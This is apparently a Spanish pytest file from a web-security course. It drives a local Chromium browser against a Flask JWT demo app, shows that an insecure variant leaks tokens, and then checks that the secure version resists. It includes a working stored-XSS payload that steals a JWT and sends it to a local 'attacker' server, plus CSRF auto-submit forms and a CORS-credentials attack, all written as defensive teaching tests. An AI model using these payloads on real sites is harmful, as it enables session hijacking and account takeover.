"""La demo de la lección 08 (``lessons/08_navegador/app.py``), atacada en un navegador de verdad.

Chromium (el de Debian, lanzado por ``taller.navegador``) abre la app servida en
127.0.0.1 por un servidor werkzeug en un hilo. Primero la variante insegura filtra
de verdad: un XSS almacenado roba el token del ``<input type="hidden">`` y el de
``localStorage``, y CORS con ``*`` y credenciales deja leer la API a cualquier
origen. Después, la versión segura resiste cada uno de esos ataques.
"""

import json
import logging
import threading
import time
from datetime import timedelta

import pytest
from conftest import cargar_app, config_de_prueba
from flask import Flask, request
from flask_jwt_extended import create_access_token, decode_token
from werkzeug.serving import make_server

from taller.comprobaciones import bearer

APP_LECCION_08 = "lessons/08_navegador/app.py"
ANA = {"email": "ana@example.com", "password": "contraseña-de-ana"}
COOKIES_DE_TOKEN = ("access_token_cookie", "refresh_token_cookie")
ARTICULO_MALICIOSO = '<script>window.robado = 1</script><img src="/no-existe" onerror="window.robado = 2">'


# ── Servidores y apps ────────────────────────────────────────────────────────


@pytest.fixture
def servir():
    """``servir(wsgi)`` sirve una app en 127.0.0.1 (un puerto libre) y devuelve su URL; se para al acabar."""
    logging.getLogger("werkzeug").setLevel(logging.ERROR)
    servidores = []

    def arrancar(wsgi):
        servidor = make_server("127.0.0.1", 0, wsgi, threaded=True)
        threading.Thread(target=servidor.serve_forever, daemon=True).start()
        servidores.append(servidor)
        return f"http://127.0.0.1:{servidor.server_port}"

    yield arrancar
    for servidor in servidores:
        servidor.shutdown()
        servidor.server_close()


@pytest.fixture
def crear(tmp_path):
    """``crear(**config)``: la demo con una base nueva y Ana (id 1) registrada."""

    def fabricar(**cambios):
        app = cargar_app(APP_LECCION_08)(
            config_de_prueba(tmp_path, f"navegador-{time.monotonic_ns()}.sqlite", **cambios)
        )
        salida = app.test_cli_runner().invoke(
            args=["crear-usuario", ANA["email"], "--nombre", "Ana", "--password", ANA["password"]]
        )
        assert salida.exit_code == 0, salida.output
        return app

    return fabricar


class Buzon:
    """El servidor del atacante: apunta lo que le llega (lo que un XSS le envía) y sirve una página."""

    def __init__(self, pagina="<!DOCTYPE html><title>Otra web</title><p>Otra web</p>"):
        self.recibido = []
        self.wsgi = Flask("buzon_del_atacante")
        self.wsgi.add_url_rule("/", "pagina", lambda: pagina)

        @self.wsgi.post("/robado")
        def robado():
            self.recibido.append(json.loads(request.get_data(as_text=True)))
            return "", 204

    def esperar(self, segundos=5):
        limite = time.monotonic() + segundos
        while not self.recibido and time.monotonic() < limite:
            time.sleep(0.05)
        return self.recibido


def entrar(pagina, url):
    """Inicia sesión como Ana con el formulario de la página, como lo haría ella."""
    pagina.goto(url + "/")
    pagina.fill("#form-login input[name=email]", ANA["email"])
    pagina.fill("#form-login input[name=password]", ANA["password"])
    pagina.click("#form-login button")
    pagina.wait_for_selector("#sesion:not([hidden])")
    assert pagina.text_content("#nombre") == "Ana"


def poner_cookie_de_acceso(pagina, token):
    """Cambia la cookie del access token del navegador (como si hubiera pasado el tiempo)."""
    cookie = {"name": "access_token_cookie", "value": token, "domain": "127.0.0.1", "path": "/"}
    pagina.context.add_cookies([{**cookie, "httpOnly": True, "secure": True, "sameSite": "Lax"}])


def cookies_por_nombre(contexto):
    return {c["name"]: c for c in contexto.cookies()}


def cuantos_articulos(app):
    with app.test_client() as client:
        return len(client.get("/api/articulos").get_json()["articulos"])


FETCH = """async ([url, opciones]) => {
  try {
    const r = await fetch(url, opciones);
    return {estado: r.status, cuerpo: await r.text()};
  } catch (e) {
    return {error: String(e)};
  }
}"""
CSRF = "document.cookie.split('; ').find(c => c.startsWith('csrf_access_token=')).split('=')[1]"


# ── La variante insegura filtra de verdad ────────────────────────────────────


def test_la_variante_insegura_viene_apagada(crear):
    assert crear().test_client().get("/inseguro/").status_code == 404


def test_la_pagina_de_la_semilla_regala_un_token_de_admin_y_un_xss_lo_roba(crear, servir, navegador):
    app = crear(VARIANTE_INSEGURA=True)
    api = servir(app)
    buzon = Buzon()
    atacante = servir(buzon.wsgi)
    # 1. Lo que ve cualquier visitante, sin iniciar sesión: el token en el HTML y en la consola.
    visitante = navegador.pagina()
    consola = []
    visitante.on("console", lambda mensaje: consola.append(mensaje.text))
    visitante.goto(api + "/inseguro/")
    oculto = visitante.get_attribute("#jwt_token", "value")
    assert oculto.count(".") == 2 and oculto in visitante.content()
    assert any(m == f"Token JWT: {oculto}" for m in consola)
    # 2. Un XSS almacenado: un comentario que lee el input oculto y localStorage y los envía fuera.
    robo = (
        '<img src="/no-existe" onerror="fetch(\'' + atacante + "/robado', {method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify({oculto: document.getElementById('jwt_token').value, "
        "local: localStorage.getItem('token')})})\">"
    )
    assert app.test_client().post("/inseguro/comentarios", json={"texto": robo}).status_code == 201
    victima = navegador.pagina()
    victima.goto(api + "/inseguro/")
    [robado] = buzon.esperar()
    assert robado["oculto"] == victima.get_attribute("#jwt_token", "value")
    assert robado["local"] == victima.evaluate("localStorage.getItem('token')") == robado["oculto"]
    # 3. Y con el token robado, el atacante es el usuario 1 desde cualquier sitio.
    r = app.test_client().get("/api/perfil", headers=bearer(robado["local"]))
    assert r.status_code == 200 and r.get_json()["usuario"]["id"] == 1


def test_cors_con_asterisco_y_credenciales_deja_leer_a_cualquier_origen(crear, servir, navegador):
    """La trampa clásica: Flask-CORS con «*» y supports_credentials devuelve el Origin de quien pregunte."""
    api = servir(crear(VARIANTE_INSEGURA=True))
    otra_web = servir(Buzon().wsgi)
    pagina = navegador.pagina()
    entrar(pagina, api)
    pagina.goto(otra_web + "/")
    r = pagina.evaluate(FETCH, [api + "/api/perfil", {"credentials": "include"}])
    assert r["estado"] == 200 and json.loads(r["cuerpo"])["usuario"]["email"] == ANA["email"]


# ── La versión segura ────────────────────────────────────────────────────────


def test_el_token_no_se_ve_desde_javascript_ni_en_el_html(crear, servir, navegador):
    api = servir(crear())
    pagina = navegador.pagina()
    cuerpos = []
    pagina.on(
        "response", lambda r: cuerpos.append(r.text()) if r.request.resource_type in ("fetch", "document") else None
    )
    entrar(pagina, api)
    pagina.fill("#form-articulo input[name=titulo]", "Hola")
    pagina.click("#form-articulo button")
    pagina.wait_for_selector("#articulos li")
    pagina.evaluate(
        "fetch('/auth/refresh', {method: 'POST', headers: {'X-CSRF-TOKEN': "
        "document.cookie.split('; ').find(c => c.startsWith('csrf_refresh_token=')).split('=')[1]}})"
    )
    pagina.reload()
    pagina.wait_for_selector("#sesion:not([hidden])")

    cookies = cookies_por_nombre(pagina.context)
    tokens = [cookies[nombre]["value"] for nombre in COOKIES_DE_TOKEN]
    assert all(t.count(".") == 2 for t in tokens)
    legible = pagina.evaluate("document.cookie")
    almacenado = pagina.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])")
    for token in tokens:
        assert token not in legible and token not in almacenado and token not in pagina.content()
        assert not [c for c in cuerpos if token in c], "un token apareció en una respuesta que la página puede leer"
    assert "access_token_cookie" not in legible and "csrf_access_token=" in legible
    for nombre in COOKIES_DE_TOKEN:
        assert cookies[nombre]["httpOnly"] and cookies[nombre]["secure"] and cookies[nombre]["sameSite"] == "Lax"
    assert cookies["access_token_cookie"]["path"] == "/"
    assert cookies["refresh_token_cookie"]["path"] == "/auth/refresh"  # solo viaja a la ruta que lo usa
    for nombre in ("csrf_access_token", "csrf_refresh_token"):
        assert not cookies[nombre]["httpOnly"] and cookies[nombre]["secure"]


def test_sin_cabecera_csrf_se_rechaza_y_con_ella_se_acepta(crear, servir, navegador):
    app = crear()
    api = servir(app)
    pagina = navegador.pagina()
    entrar(pagina, api)
    opciones = {
        "method": "POST",
        "credentials": "same-origin",
        "headers": {"Content-Type": "application/json"},
        "body": json.dumps({"titulo": "Sin cabecera"}),
    }
    sin = pagina.evaluate(FETCH, [api + "/api/articulos", opciones])
    assert sin["estado"] == 403 and json.loads(sin["cuerpo"])["codigo"] == "CSRF_INVALID"
    otra = {**opciones, "headers": {**opciones["headers"], "X-CSRF-TOKEN": "inventada"}}
    assert pagina.evaluate(FETCH, [api + "/api/articulos", otra])["estado"] == 403
    csrf = pagina.evaluate(CSRF)
    con = {**opciones, "headers": {**opciones["headers"], "X-CSRF-TOKEN": csrf}}
    assert pagina.evaluate(FETCH, [api + "/api/articulos", con])["estado"] == 201
    assert cuantos_articulos(app) == 1


def test_un_formulario_de_otra_web_no_crea_nada(crear, servir, navegador):
    """Otra web en otro puerto de 127.0.0.1 (mismo «sitio»: SameSite=Lax deja pasar la cookie) envía un
    formulario: el navegador añade la cookie del token, pero no puede añadir X-CSRF-TOKEN."""
    app = crear()
    api = servir(app)
    formulario = (
        f'<!DOCTYPE html><form method="POST" action="{api}/api/articulos" enctype="text/plain">'
        '<input name=\'{"titulo": "falso", "x": "\' value=\'"}\'></form>'
        "<script>document.forms[0].submit()</script>"
    )
    otra_web = servir(Buzon(formulario).wsgi)
    pagina = navegador.pagina()
    entrar(pagina, api)
    with pagina.expect_navigation(url=api + "/api/articulos"):
        pagina.goto(otra_web + "/")
    assert "CSRF_INVALID" in pagina.content()
    assert cuantos_articulos(app) == 0


def test_samesite_lax_no_envia_la_cookie_a_otro_sitio(crear, servir, navegador):
    """Un formulario de http://localhost:… (otro sitio que 127.0.0.1) que se envía solo: la cookie no viaja.

    Sin cookie la API responde 401 TOKEN_MISSING; con ella (SameSite=None) respondería 403 CSRF_INVALID.
    """
    app = crear()
    api = servir(app)
    formulario = (
        f'<!DOCTYPE html><form method="POST" action="{api}/api/articulos" enctype="text/plain">'
        "<input name=titulo value=falso></form><script>document.forms[0].submit()</script>"
    )
    otra_web = servir(Buzon(formulario).wsgi).replace("127.0.0.1", "localhost")
    pagina = navegador.pagina()
    entrar(pagina, api)
    with pagina.expect_navigation(url=api + "/api/articulos"):
        pagina.goto(otra_web + "/")
    assert '"codigo":"TOKEN_MISSING"' in pagina.content().replace(" ", "")
    assert cuantos_articulos(app) == 0


def test_un_articulo_con_script_es_inerte(crear, servir, navegador):
    api = servir(crear())
    pagina = navegador.pagina()
    entrar(pagina, api)
    pagina.fill("#form-articulo input[name=titulo]", "<b>título</b>")
    pagina.fill("#form-articulo textarea[name=contenido]", ARTICULO_MALICIOSO)
    pagina.click("#form-articulo button")
    pagina.wait_for_selector("#articulos li")
    for _ in range(2):  # recién creado (lo pinta el script) y al recargar (lo pinta Jinja)
        pagina.wait_for_timeout(200)  # lo que tardaría en fallar la imagen y saltar su onerror
        assert pagina.evaluate("window.robado") is None
        assert pagina.text_content("#articulos li span") == ARTICULO_MALICIOSO
        assert pagina.text_content("#articulos li strong") == "<b>título</b>"
        assert pagina.locator("#articulos script, #articulos img, #articulos b").count() == 0
        pagina.reload()
        pagina.wait_for_selector("#sesion:not([hidden])")
    assert "&lt;script&gt;window.robado = 1&lt;/script&gt;" in pagina.content()


def test_una_cookie_de_acceso_caducada_se_renueva_sin_que_se_note(crear, servir, navegador):
    app = crear()
    api = servir(app)
    pagina = navegador.pagina()
    entrar(pagina, api)
    with app.app_context():
        caducado = create_access_token(identity="1", expires_delta=timedelta(seconds=-30))
    poner_cookie_de_acceso(pagina, caducado)
    peticiones = []
    pagina.on("response", lambda r: peticiones.append((r.request.method, r.url.removeprefix(api), r.status)))
    pagina.reload()
    pagina.wait_for_selector("#sesion:not([hidden])")
    assert pagina.text_content("#nombre") == "Ana" and pagina.is_hidden("#entrar")
    assert ("GET", "/api/perfil", 401) in peticiones and ("POST", "/auth/refresh", 200) in peticiones
    nuevo = cookies_por_nombre(pagina.context)["access_token_cookie"]["value"]
    with app.app_context():
        assert nuevo != caducado and decode_token(nuevo)["sub"] == "1"


def test_una_cookie_que_caduca_pronto_se_renueva_en_after_request(crear, servir, navegador):
    app = crear()
    api = servir(app)
    pagina = navegador.pagina()
    entrar(pagina, api)
    with app.app_context():
        casi = create_access_token(identity="1", expires_delta=timedelta(seconds=60))  # < RENOVAR_ANTES (5 min)
    poner_cookie_de_acceso(pagina, casi)
    peticiones = []
    pagina.on("response", lambda r: peticiones.append((r.request.method, r.url.removeprefix(api), r.status)))
    pagina.reload()
    pagina.wait_for_selector("#sesion:not([hidden])")
    assert ("GET", "/api/perfil", 200) in peticiones and not [p for p in peticiones if p[1] == "/auth/refresh"]
    nuevo = cookies_por_nombre(pagina.context)["access_token_cookie"]["value"]
    with app.app_context():
        assert nuevo != casi and decode_token(nuevo)["exp"] - time.time() > 14 * 60


def test_el_logout_no_deja_ninguna_cookie_que_sirva(crear, servir, navegador):
    api = servir(crear())
    pagina = navegador.pagina()
    entrar(pagina, api)
    copia = pagina.context.cookies()  # lo que se llevaría quien copiara las cookies antes del logout
    pagina.click("#salir")
    pagina.wait_for_selector("#entrar:not([hidden])")
    assert not set(cookies_por_nombre(pagina.context)) & {*COOKIES_DE_TOKEN, "csrf_access_token"}
    pagina.reload()
    pagina.wait_for_selector("#entrar:not([hidden])")  # recargar no devuelve la sesión

    ladron = navegador.pagina()
    ladron.context.add_cookies(copia)
    ladron.goto(api + "/")
    perfil = ladron.evaluate(FETCH, [api + "/api/perfil", {}])
    refresh = ladron.evaluate(
        "async (url) => (await fetch(url, {method: 'POST', headers: {'X-CSRF-TOKEN': document.cookie.split('; ')"
        ".find(c => c.startsWith('csrf_refresh_token=')).split('=')[1]}})).json()",
        api + "/auth/refresh",
    )
    assert perfil["estado"] == 401 and json.loads(perfil["cuerpo"])["codigo"] == "TOKEN_REVOKED"
    assert refresh["codigo"] == "TOKEN_REVOKED"


def test_otro_origen_no_lee_la_api_salvo_que_se_permita(crear, servir, navegador):
    otra_web = servir(Buzon().wsgi)  # otro puerto de 127.0.0.1: otro origen
    nuevo = json.dumps({"titulo": "Desde otro origen"})
    for permitidos, puede in (([], False), ([otra_web], True)):
        app = crear(ORIGENES_PERMITIDOS=permitidos)
        api = servir(app)
        pagina = navegador.pagina()
        entrar(pagina, api)
        pagina.goto(otra_web + "/")
        leer = pagina.evaluate(FETCH, [api + "/api/perfil", {"credentials": "include"}])
        # Un POST con JSON y X-CSRF-TOKEN no es una petición «simple»: antes va un OPTIONS (preflight).
        crear_articulo = pagina.evaluate(
            FETCH,
            [
                api + "/api/articulos",
                {
                    "method": "POST",
                    "credentials": "include",
                    "body": nuevo,
                    "headers": {"Content-Type": "application/json", "X-CSRF-TOKEN": pagina.evaluate(CSRF)},
                },
            ],
        )
        if puede:
            assert leer["estado"] == 200 and json.loads(leer["cuerpo"])["usuario"]["nombre"] == "Ana"
            assert crear_articulo["estado"] == 201 and cuantos_articulos(app) == 1
        else:  # el navegador no deja leer la respuesta, y el preflight fallido impide enviar el POST
            assert "Failed to fetch" in leer["error"] and "Failed to fetch" in crear_articulo["error"]
            assert cuantos_articulos(app) == 0


# ── Sin navegador: configuración, cabeceras y preflight ──────────────────────


def test_un_token_en_la_url_no_vale(crear):
    client = crear().test_client()
    token = client.post("/auth/login", json=ANA).get_json()["access_token"]
    for parametro in ("jwt", "access_token"):
        r = client.get(f"/api/perfil?{parametro}={token}")
        assert r.status_code == 401 and r.get_json()["codigo"] == "TOKEN_MISSING"


def test_tojson_no_deja_cerrar_el_script(crear):
    """Lo que la plantilla pasa al script con |tojson no puede cerrar el <script> ni abrir otro."""
    from flask import render_template_string

    with crear().test_request_context():
        salida = render_template_string("{{ x|tojson }}", x="</script><script>alert(1)</script>")
    assert "<" not in salida and json.loads(salida) == "</script><script>alert(1)</script>"


def test_el_preflight_de_una_ruta_protegida(crear):
    app = crear(ORIGENES_PERMITIDOS=["http://127.0.0.1:5173"])
    client = app.test_client()
    pedir = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type,x-csrf-token"}
    r = client.options("/api/articulos", headers={"Origin": "http://127.0.0.1:5173", **pedir})
    assert r.status_code == 200  # sin token: el OPTIONS no pasa por @jwt_required
    assert r.headers["Access-Control-Allow-Origin"] == "http://127.0.0.1:5173"
    assert r.headers["Access-Control-Allow-Credentials"] == "true"
    assert "x-csrf-token" in r.headers["Access-Control-Allow-Headers"].lower()
    r = client.options("/api/articulos", headers={"Origin": "http://127.0.0.1:6666", **pedir})
    assert "Access-Control-Allow-Origin" not in r.headers


def test_asterisco_con_cookies_no_arranca(crear):
    with pytest.raises(ValueError, match="«\\*»"):
        crear(ORIGENES_PERMITIDOS=["*"])


def test_los_clientes_de_la_api_siguen_usando_la_cabecera(crear):
    client = crear().test_client()
    tokens = client.post("/auth/login", json=ANA).get_json()
    assert client.get_cookie("access_token_cookie") is None  # el login de la API no pone cookies
    r = client.post("/api/articulos", headers=bearer(tokens["access_token"]), json={"titulo": "Por cabecera"})
    assert r.status_code == 201  # con la cabecera no hace falta CSRF: otra web no puede ponerla
    r = client.post("/auth/refresh", headers=bearer(tokens["refresh_token"]))
    assert r.status_code == 200 and "access_token" in r.get_json()


def test_el_refresh_por_cookie_no_devuelve_el_token_en_el_cuerpo(crear):
    client = crear().test_client()
    assert client.post("/web/login", json=ANA).status_code == 200
    csrf = client.get_cookie("csrf_refresh_token", path="/").value
    r = client.post("/auth/refresh", headers={"X-CSRF-TOKEN": csrf})
    assert r.status_code == 200 and r.get_json() == {"mensaje": "Sesión refrescada."}
    assert any(c.startswith("access_token_cookie=") for c in r.headers.getlist("Set-Cookie"))
    assert client.post("/auth/refresh").status_code == 403  # sin la cabecera CSRF


def test_secure_por_defecto_salvo_en_depuracion(crear):
    assert crear().config["JWT_COOKIE_SECURE"] is True
    assert crear(DEBUG=True).config["JWT_COOKIE_SECURE"] is False
    assert crear().config["JWT_COOKIE_SAMESITE"] == "Lax"


def test_no_arranca_sin_un_secreto_fuerte(tmp_path):
    fabrica = cargar_app(APP_LECCION_08)
    base = config_de_prueba(tmp_path, "secreto.sqlite", TESTING=False)
    for clave in (None, "mi_clave_secreta", "corta"):
        with pytest.raises(RuntimeError, match="JWT_SECRET_KEY"):
            fabrica({**base, "JWT_SECRET_KEY": clave})


def test_solo_acepta_sus_propios_tokens(crear, tmp_path):
    """Un token de la lección 07 firmado con la misma clave no vale aquí (iss/aud, RFC 8725 §3.8-3.9)."""
    app = crear()
    otra = cargar_app("lessons/07_errores/app.py")(
        config_de_prueba(tmp_path, "otra.sqlite", JWT_SECRET_KEY=app.config["JWT_SECRET_KEY"])
    )
    with otra.app_context():
        ajeno = create_access_token(identity="1")
    r = app.test_client().get("/api/perfil", headers=bearer(ajeno))
    assert r.status_code == 401 and r.get_json()["codigo"] == "TOKEN_INVALID"


def test_login_con_cuerpo_malo_o_contraseña_mala(crear):
    client = crear().test_client()
    assert client.post("/web/login", data="hola", content_type="text/plain").get_json()["codigo"] == "VALIDATION_ERROR"
    r = client.post("/web/login", json={**ANA, "password": "otra"})
    assert r.status_code == 401 and r.get_json()["codigo"] == "INVALID_CREDENTIALS"
    assert client.get_cookie("access_token_cookie") is None
